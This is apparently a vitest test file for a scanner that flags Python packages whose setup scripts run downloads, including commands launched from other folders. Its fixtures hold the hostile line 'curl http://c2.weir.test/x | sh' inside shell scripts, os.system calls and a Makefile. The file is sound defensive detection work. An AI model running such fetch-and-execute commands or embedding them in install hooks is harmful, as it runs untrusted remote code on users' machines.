import { expect, test } from 'vitest';
import { analyzeFiles, downloadsRun } from '../testing/analyze-wheel.ts';

const METADATA = 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n';
const SETUP = "from setuptools import setup\nsetup(name='own', version='1.0')\n";
const FETCH = 'curl http://c2.weir.test/x | sh';
const SCRIPT = `#!/bin/sh\n${FETCH}\n`;
const PYTHON = `import os\nos.system('${FETCH}')\n`;

/** Where a source distribution whose setup script does this says that a download is run. */
async function fetching(does: string, path: string, text: string): Promise<string[]> {
  const files = {
    'PKG-INFO': METADATA,
    'setup.py': `import os, subprocess, sys\n${does}\n${SETUP}`,
    [path]: text,
  };
  return downloadsRun(await analyzeFiles(files, 'own-1.0.tar.gz'));
}

test.each([
  ['cwd', "subprocess.call(['sh', 'run.sh'], cwd='ext/tools')", 'ext/tools/run.sh', SCRIPT],
  ['cwd of a program', "subprocess.Popen('./run.sh', cwd='ext')", 'ext/run.sh', SCRIPT],
  [
    'cwd beside the script',
    "H = os.path.dirname(os.path.abspath(__file__))\nsubprocess.run(['bash', 'run'], cwd=os.path.join(H, 'ext'))",
    'ext/run',
    SCRIPT,
  ],
  [
    'cwd as a path',
    "import pathlib\nsubprocess.run('sh run.sh', shell=True, cwd=pathlib.Path(__file__).parent / 'ext')",
    'ext/run.sh',
    SCRIPT,
  ],
  ['cwd of Python', "subprocess.run([sys.executable, 'go.py'], cwd='ext')", 'ext/go.py', PYTHON],
  [
    'cwd of a module of Python',
    "subprocess.run([sys.executable, '-m', 'go'], cwd='ext')",
    'ext/go.py',
    PYTHON,
  ],
  ['cwd of make', "subprocess.run(['make'], cwd='ext')", 'ext/Makefile', `all:\n\t${FETCH}\n`],
  ['os.chdir', "os.chdir('ext')\nos.chdir('tools')\nos.system('sh run.sh')", 'ext/tools/run.sh', SCRIPT],
  [
    'os.chdir in a function',
    "def build():\n    old = os.getcwd()\n    os.chdir('ext')\n    subprocess.check_call(['sh', 'run.sh'])\n    os.chdir(old)\nbuild()",
    'ext/run.sh',
    SCRIPT,
  ],
  [
    'os.chdir and back',
    "old = os.getcwd()\nos.chdir('ext')\nos.chdir(old)\nos.system('sh tools/run.sh')",
    'tools/run.sh',
    SCRIPT,
  ],
  ['cd of a shell', "os.system('cd ext && cd tools && sh run.sh')", 'ext/tools/run.sh', SCRIPT],
])('a command that runs a file of another folder is linked to it: %s', async (_how, does, path, text) => {
  const line = text === PYTHON || path.endsWith('Makefile') ? 2 : text.split('\n').indexOf(FETCH) + 1;

  expect(await fetching(does, path, text)).toEqual([`install ${path}:${line}`]);
});

test('a program that runs in another folder is one that the package ships', async () => {
  const files = {
    'PKG-INFO': METADATA,
    'setup.py': `import subprocess\nsubprocess.Popen(['./helper'], cwd='ext')\n${SETUP}`,
    'ext/helper': Buffer.from(`\x7fELF\x02\x01\x01${'\0'.repeat(300)}`, 'latin1'),
  };
  const { findings } = await analyzeFiles(files, 'own-1.0.tar.gz');

  expect(findings.map(({ rule }) => rule)).toContain('shipped-executable/started');
});

test.each([
  ['of the machine', "subprocess.call(['sh', 'run.sh'], cwd='/opt/other')", 'other/run.sh'],
  ['that the environment names', "os.chdir(os.environ['BUILD'])\nos.system('sh run.sh')", 'ext/run.sh'],
  ['that is not the one', "subprocess.call(['sh', 'run.sh'], cwd='lib')", 'ext/run.sh'],
])('no file is meant by a folder %s', async (_what, does, path) => {
  expect(await fetching(does, path, SCRIPT)).toEqual([]);
});

test('a package that starts itself in a function that somebody has to call runs nothing when it is imported', async () => {
  const commandsOf = async (call: string): Promise<string[]> => {
    const files = {
      'own-1.0.dist-info/METADATA': METADATA,
      'own/__init__.py': `import subprocess, sys\ndef child():\n    subprocess.run([sys.executable, '-m', 'own'])\n${call}`,
      'own/__main__.py': PYTHON,
    };
    return downloadsRun(await analyzeFiles(files, 'own-1.0-py3-none-any.whl'));
  };

  expect(await commandsOf('child()\n')).toEqual(['import own/__main__.py:2']);
  expect(await commandsOf('')).toEqual(['use own/__main__.py:2']);
});
